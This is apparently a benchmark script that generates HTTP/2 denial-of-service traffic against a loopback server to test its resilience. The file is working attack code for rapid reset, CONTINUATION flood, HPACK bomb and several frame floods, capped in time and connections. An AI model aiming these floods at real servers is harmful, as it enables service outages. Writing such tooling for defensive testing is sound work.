// One HTTP/2 attack from its own process, for bench/h2-attacks.ts: repeats the attack on new
// connections until the time is up, reading and dropping what the server answers (a real
// attacker parses nothing; parsing here would only burn CPU the bystander needs). Prints
// `connections N` when done. Loopback only; bounded in time and connections.
//
//   bun bench/h2-attacker.ts NAME PORT MS
//   NAME "burn": no HTTP/2 at all, one core kept busy for MS (the floor: what a neighbour costs)
import * as net from "node:net";
import { PREFACE, STREAMING_PULL, T, frame, indexed, requestBlock, settings, u32 } from "../tests/helpers/h2-peer.ts";

const [name, port, ms] = process.argv.slice(2) as [string, string, string];
const until = Date.now() + Number(ms);
const MAX_CONNECTIONS = 5000;

const GET_TOPIC = "/google.pubsub.v1.Publisher/GetTopic";
const block = requestBlock(GET_TOPIC);
const times = <R>(n: number, f: (i: number) => R) => Array.from({ length: n }, (_, i) => f(i));
/** A batch built once (building it anew each time would only load the attacker's own core). */
const once = (b: Buffer) => () => b;

/** Each attack: bytes for one connection, written in batches until the server ends it. */
const ATTACKS: Record<string, { first?: Buffer; batch: (i: number) => Buffer }> = {
  "rapid reset": { batch: (i) => Buffer.concat(times(500, (k) => Buffer.concat([frame(T.HEADERS, 4, 1 + 2 * (i * 500 + k), block), frame(T.RST_STREAM, 0, 1 + 2 * (i * 500 + k), u32(8))]))) },
  "CONTINUATION flood": { first: frame(T.HEADERS, 0, 1, block), batch: once(Buffer.concat(times(5000, () => frame(T.CONTINUATION, 0, 1)))) },
  "HPACK bomb": { batch: (i) => frame(T.HEADERS, 4, 1 + 2 * i, Buffer.concat([requestBlock(GET_TOPIC, [indexed("x-bomb", "b".repeat(4000))]), Buffer.alloc(15_000, 0xbe)])) },
  "SETTINGS flood": { batch: once(Buffer.concat(times(5000, () => settings([[1, 4096]])))) },
  "PING flood": { batch: once(Buffer.concat(times(5000, () => frame(T.PING, 0, 0, Buffer.alloc(8))))) },
  "empty DATA flood": { first: frame(T.HEADERS, 4, 1, requestBlock(STREAMING_PULL)), batch: once(Buffer.concat(times(5000, () => frame(T.DATA, 0, 1)))) },
  "WINDOW_UPDATE flood": { batch: once(Buffer.concat(times(5000, () => frame(T.WINDOW_UPDATE, 0, 0, u32(1))))) },
};

/** One connection: batches written as fast as the socket takes them, until it closes, 1,000 batches are written or the time is up. */
function connection(a: (typeof ATTACKS)[string]): Promise<void> {
  return new Promise((done) => {
    const s = net.connect(Number(port), "127.0.0.1");
    let i = 0;
    let closed = false;
    const finish = () => {
      if (closed) return;
      closed = true;
      s.destroy();
      done();
    };
    // One batch a turn: the close the server answers with is seen between batches.
    const more = () => {
      if (closed) return;
      if (Date.now() >= until || i >= 1000) return finish();
      if (s.write(a.batch(i++))) setImmediate(more);
      else s.once("drain", more);
    };
    s.on("data", () => {});
    // The server's FIN follows its GOAWAY: on to a new connection at once, as an attacker would.
    s.on("end", finish);
    s.on("error", finish);
    s.on("close", finish);
    s.on("connect", () => {
      s.write(Buffer.concat([PREFACE, frame(T.SETTINGS, 0, 0), a.first ?? Buffer.alloc(0)]));
      more();
    });
  });
}

if (name === "burn") {
  while (Date.now() < until) for (let k = 0; k < 1e5; k++);
  console.log("connections 0");
} else {
  const a = ATTACKS[name];
  if (!a) throw new Error(`unknown attack ${name}`);
  let connections = 0;
  while (Date.now() < until && connections < MAX_CONNECTIONS) {
    connections++;
    await connection(a);
  }
  console.log(`connections ${connections}`);
}
process.exit(0);
